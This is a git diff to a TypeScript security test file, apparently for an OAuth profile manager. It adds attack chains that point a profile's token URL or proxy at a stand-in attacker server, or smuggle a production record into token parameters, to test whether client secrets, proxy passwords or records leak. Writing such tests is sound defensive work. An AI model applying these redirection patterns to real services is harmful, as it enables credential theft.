@@ -1,6 +1,6 @@
 import type { CallName } from '../../../shared/contract.ts'
-import type { Profile, ProfileSettings } from '../../../shared/model/profile/profile.ts'
-import { attackersPassphrase, restoredBaitId, type WalledApp } from './walled-app.ts'
+import { defaultProfileSettings, type Profile, type ProfileSettings } from '../../../shared/model/profile/profile.ts'
+import { attackersPassphrase, productionRecord, restoredBaitId, type WalledApp } from './walled-app.ts'
 
 /** Calls of one window in sequence that try to extract a secret. */
 export interface AttackChain {
@@ -71,6 +71,35 @@ export const attackChains: Readonly<Record<string, AttackChain>> = {
     },
     ({ attacker }) => attacker.host,
   ),
+  'records in the parameters of a new profile': chain(
+    async (step, { attacker }) => {
+      const created = (await step('profiles.create', {
+        ...{ ...defaultProfileSettings('basic'), name: 'New', environment: 'mock', clientId: 'acme' },
+        ...{ tokenUrl: `${attacker.origin}/token`, extraTokenParameters: { note: productionRecord } },
+      })) as Profile
+      await step('profiles.setClientSecret', { profileId: created.id, clientSecret: 'theirs' })
+      await step(...token(created.id))
+      await step('doctor.diagnose', { profileId: created.id })
+    },
+    () => productionRecord,
+  ),
+  'another token URL of a test profile with a client secret': chain(async (step, { tested: { id }, attacker }) => {
+    const [basic, jwt] = (['basic', 'jwt'] as const).map(defaultProfileSettings)
+    await change(step, id, { ...jwt, environment: 'client-testing', audience: 'a:b:c:d' })
+    await change(step, id, { tokenUrl: `${attacker.origin}/token` })
+    for (const clientAuthentication of ['client_secret_basic', 'client_secret_post'] as const) {
+      await change(step, id, { ...basic, environment: 'mock', clientAuthentication })
+      await step(...token(id))
+    }
+  }),
+  'another proxy of a test profile with a proxy password': chain(async (step, { tested: { id }, attacker }) => {
+    await change(step, id, { proxy: attacker.origin })
+    await step(...token(id))
+    await step('trust.look', { profileId: id })
+    await change(step, id, { proxy: 'system' })
+    await change(step, id, { proxy: attacker.origin.replace('127.0.0.1', 'localhost') })
+    await step(...token(id))
+  }),
   'out of Production, then another token URL': chain(
     async (step, { production: { id }, attacker }) => {
       await change(step, id, { environment: 'client-testing' })
